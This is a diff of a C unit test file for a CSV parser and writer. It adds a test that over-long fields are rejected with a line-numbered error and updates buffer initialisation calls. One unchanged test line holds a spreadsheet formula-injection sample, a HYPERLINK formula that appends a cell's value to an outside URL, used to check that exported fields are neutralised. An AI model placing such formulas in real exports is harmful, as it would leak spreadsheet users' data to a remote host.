@@ -184,12 +184,37 @@ START_TEST(csv_caps_the_fields)
 }
 END_TEST
 
+/* A field is one value: longer than BUF_MAX_TEXT, the file is refused,
+ * naming the line, not read into memory without end. */
+START_TEST(csv_caps_a_field)
+{
+	size_t n = BUF_MAX_TEXT + 1, i;
+	char *text = malloc(n + 6);
+	struct msp_error err;
+	struct csv *csv = NULL;
+
+	ck_assert_ptr_nonnull(text);
+	memcpy(text, "a,b\n1,", 6);
+	for (i = 0; i < n; i++)
+		text[6 + i] = 'x';
+	ck_assert_int_eq(csv_parse(text, n + 6, ',', &csv, &err), MSP_EINVAL);
+	ck_assert_ptr_null(csv);
+	ck_assert_str_eq(err.message, "line 2: a field: longer than the "
+			 "maximum of 1048576 bytes");
+	/* the field's buffer holds its NUL too: a byte less is read */
+	ck_assert_int_eq(csv_parse(text, n + 4, ',', &csv, &err), MSP_OK);
+	ck_assert_uint_eq(strlen(csv->rows[1].fields[1]), BUF_MAX_TEXT - 1);
+	csv_free(csv);
+	free(text);
+}
+END_TEST
+
 /* s as csv_write_field() or csv_write_number() writes it (static). */
 static const char *
 field(const char *s, int number)
 {
 	static char out[256];
-	struct buf b = BUF_INIT;
+	struct buf b = BUF_INIT(BUF_MAX_DOCUMENT);
 
 	if (number)
 		csv_write_number(&b, s);
@@ -254,7 +279,7 @@ START_TEST(csv_written_fields_read_back)
 		"=HYPERLINK(\"http://x/?\"&A2,\"cliquez\")",
 	};
 	const size_t n = sizeof(texts) / sizeof(texts[0]);
-	struct buf b = BUF_INIT;
+	struct buf b = BUF_INIT(BUF_MAX_DOCUMENT);
 	struct csv *csv = NULL;
 	struct msp_error err;
 	size_t i, j;
@@ -290,7 +315,7 @@ END_TEST
 START_TEST(report_csv_is_neutralised)
 {
 	struct rdoc *doc = rdoc_new();
-	struct buf out = BUF_INIT;
+	struct buf out = BUF_INIT(BUF_MAX_DOCUMENT);
 	struct msp_error err;
 	struct rtable *t;
 	struct rrow *r;
@@ -355,6 +380,7 @@ csv_suite(void)
 	tcase_add_test(tc, csv_skips_empty_lines);
 	tcase_add_test(tc, csv_errors_name_the_line);
 	tcase_add_test(tc, csv_caps_the_fields);
+	tcase_add_test(tc, csv_caps_a_field);
 	tcase_add_test(tc, csv_fields_are_neutralised);
 	tcase_add_test(tc, csv_written_fields_read_back);
 	tcase_add_test(tc, report_csv_is_neutralised);
